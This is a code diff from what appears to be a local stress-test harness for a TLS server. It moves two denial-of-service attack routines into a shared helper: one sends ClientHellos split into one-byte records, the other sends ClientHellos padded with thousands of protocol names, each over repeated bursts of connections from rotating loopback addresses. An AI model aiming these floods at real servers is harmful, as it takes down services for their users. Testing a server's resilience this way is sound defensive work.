@@ -156,22 +156,27 @@ def large_hello(length: int) -> bytes:
     return b"\x01" + struct.pack(">I", length)[1:] + b"\x03\x03" + bytes(length)
 
 
+def greet(stage: Stage, data: bytes, count: int) -> None:
+    """Sends the same on so many new connections at once, from ever other addresses."""
+    stage.begin()
+    for number in itertools.count():
+        if not stage.is_on():
+            return
+        streams = [open_stream(stage.port, f"127.{2 + number % 200}.0.1") for _ in range(count)]
+        for stream in streams:
+            stage.counts["whole"] += stage.push(stream, data)
+        time.sleep(0.05)
+        for stream in streams:
+            reset(stream)
+
+
 @attack(
     "hello-crumbs", "anybody (TLS)",
     "64 kB of a ClientHello in TLS records of one byte each, on 40 new connections at once, again and again")
 def hello_crumbs(stage: Stage) -> None:
     hello = large_hello(65_000)
     data = b"".join(b"\x16\x03\x01\0\1" + hello[at:at + 1] for at in range(10_900))
-    stage.begin()
-    for number in itertools.count():
-        if not stage.is_on():
-            return
-        streams = [open_stream(stage.port, f"127.{2 + number % 200}.0.1") for _ in range(40)]
-        for stream in streams:
-            stage.counts["whole"] += stage.push(stream, data)
-        time.sleep(0.05)
-        for stream in streams:
-            reset(stream)
+    greet(stage, data, 40)
 
 
 @attack(
@@ -195,16 +200,7 @@ def hellos_held(stage: Stage) -> None:
     "ClientHellos of 15 kB with 7,000 names of protocols of one letter, on 20 new connections at once, again and again")
 def hello_lists(stage: Stage) -> None:
     data = client_hello(7_000)
-    stage.begin()
-    for number in itertools.count():
-        if not stage.is_on():
-            return
-        streams = [open_stream(stage.port, f"127.{2 + number % 200}.0.1") for _ in range(20)]
-        for stream in streams:
-            stage.counts["whole"] += stage.push(stream, data)
-        time.sleep(0.05)
-        for stream in streams:
-            reset(stream)
+    greet(stage, data, 20)
 
 
 @attack(
